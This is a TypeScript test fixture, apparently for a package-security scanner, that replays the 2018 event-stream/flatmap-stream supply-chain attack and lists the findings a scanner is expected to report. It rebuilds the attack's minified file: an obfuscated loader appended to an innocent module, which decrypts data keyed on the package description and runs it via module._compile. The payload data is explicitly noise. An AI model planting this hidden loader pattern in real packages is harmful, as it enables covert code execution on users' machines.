import type { Replay } from '../replay.js'
import { upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

const streams = `var Stream = require('stream').Stream
var es = exports

es.Stream = Stream
es.through = require('./through')

es.merge = function () {
  var merged = [].slice.call(arguments)
  var stream = new Stream()
  var ended = 0
  stream.setMaxListeners(0)
  merged.forEach(function (one) {
    one.pipe(stream, { end: false })
    one.on('end', function () {
      if (++ended === merged.length) stream.emit('end')
    })
  })
  return stream
}

es.readArray = function (array) {
  var stream = new Stream()
  var at = 0
  stream.readable = true
  stream.resume = function () {
    while (at < array.length) stream.emit('data', array[at++])
    stream.emit('end')
  }
  process.nextTick(stream.resume)
  return stream
}
`

const through = `var Stream = require('stream')

module.exports = function through(write, end) {
  var stream = new Stream()
  stream.writable = stream.readable = true
  stream.queue = function (data) {
    stream.emit(data === null ? 'end' : 'data', data)
  }
  stream.write = function (data) {
    return write.call(stream, data), true
  }
  stream.end = function () {
    ;(end || stream.queue).call(stream, null)
  }
  return stream
}
`

const readable = `var Stream = require('stream').Stream

module.exports = function flatmap(mapper) {
  var stream = new Stream()
  stream.writable = stream.readable = true
  stream.write = function (data) {
    mapper(data).forEach(function (one) {
      stream.emit('data', one)
    })
    return true
  }
  stream.end = function () {
    stream.emit('end')
  }
  return stream
}
`

const hex = (text: string): string => Buffer.from(text).toString('hex')

/** The honest module on one line, and behind it what its repository never held. */
const minified =
  'var Stream=require("stream").Stream;module.exports=function(t){var e=new Stream;return e.writable=e.readable=!0,' +
  'e.write=function(r){return t(r).forEach(function(t){e.emit("data",t)}),!0},e.end=function(){e.emit("end")},e};' +
  `;(()=>{let p=require,w=x=>Buffer.from(x,"hex")+"",d;try{d=p(w("${hex('./test/data')}"))}catch{return}` +
  'let k=process[w(d[3])][w(d[4])];if(k===void 0)return;let c=p(w(d[2]))[w(d[6])](w(d[5]),k),' +
  's=[c.update(d[0],w(d[8]),w(d[9])),c.final(w(d[9]))].join("");' +
  'let m=new module.constructor(module.id);m.paths=[...module.paths];m[w(d[7])](s,module.id)})();\n'

/** No key opens the first two, which are noise: the rest are words in hex. */
const data = [
  hex('no text was ever enciphered here, and no description is its key').repeat(6),
  hex('nor here').repeat(40),
  ...['crypto', 'env', 'npm_package_description', 'aes256', 'createDecipher', '_compile', 'hex', 'utf8'].map(hex),
]

const handedOver = { publisher: { name: 'next-maintainer' } }

const { packages, base, head } = upgradeOf(
  {
    'event-stream': {
      before: {
        version: '3.3.4',
        files: { 'index.js': streams, 'through.js': through },
        published: '2016-07-10T12:00:00Z',
      },
      after: {
        version: '3.3.6',
        published: '2018-09-09T12:00:00Z',
        ...handedOver,
        manifest: { dependencies: { 'flatmap-stream': '^0.1.0' } },
        files: { 'index.js': `${streams}\nes.flatmap = require('flatmap-stream')\n`, 'through.js': through },
      },
    },
  },
  {
    'flatmap-stream': {
      version: '0.1.1',
      published: '2018-10-05T12:00:00Z',
      ...handedOver,
      manifest: { main: 'index.min.js' },
      files: {
        'index.js': readable,
        'index.min.js': minified,
        'test/data.js': `module.exports=${JSON.stringify(data)}\n`,
      },
    },
  },
)

export const replay: Replay = {
  description:
    'A new maintainer of event-stream added flatmap-stream. Its minified file alone, which no repository held, deciphered a payload with ' +
    'the description of the package that was being built as the key, so that it opened in one wallet’s build only.',
  date: '2018-09',
  reviewedAt: '2018-10-06T12:00:00Z',
  packages: {
    'event-stream': {
      ...packages['event-stream'],
      '3.3.5': {
        files: { 'index.js': streams, 'through.js': through },
        published: '2018-09-05T12:00:00Z',
        ...handedOver,
      },
    },
    'flatmap-stream': {
      '0.1.0': { files: { 'index.js': readable }, published: '2018-09-08T12:00:00Z', ...handedOver },
      ...packages['flatmap-stream'],
    },
  },
  base,
  head,
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('event-stream', '3.3.6', ['publisher-changed', 'medium']),
      onVersion('event-stream', '3.3.6', ['release-after-silence', 'medium']),
      onVersion('flatmap-stream', '0.1.1', ['package-young', 'medium']),
      onVersion('flatmap-stream', '0.1.1', ['release-fresh', 'medium']),
      onVersion('flatmap-stream', '0.1.1', [
        'remote-code-run',
        'critical',
        { file: 'index.min.js', line: /new module\.constructor/ },
      ]),
    ],
  },
}
